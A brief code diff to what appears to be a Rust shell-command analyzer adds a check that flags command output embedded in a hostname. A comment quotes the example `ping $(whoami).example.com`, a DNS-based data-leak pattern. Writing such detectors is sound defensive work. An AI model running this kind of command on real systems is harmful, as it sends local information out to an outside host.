@@ -263,6 +263,13 @@ impl Walker<'_> {
         let bare = ASKS_FOR_HOSTS.binary_search(&name).is_ok();
         for field in fields.iter().skip(1) {
             let value = &field.value;
+            // `ping $(whoami).example.com`: what is known here is news to them.
+            let told =
+                self.told.iter().any(|told| field.span.start <= told.start && told.end <= field.span.end);
+            if told && (bare || speaks) && ends_in_domain(value) {
+                self.leaks_in_name(value, field.span);
+                return;
+            }
             if value.has_unknown()
                 && (output_before_domain(value, bare)
                     || speaks && ends_in_domain(value) && output_before_domain(value, true))
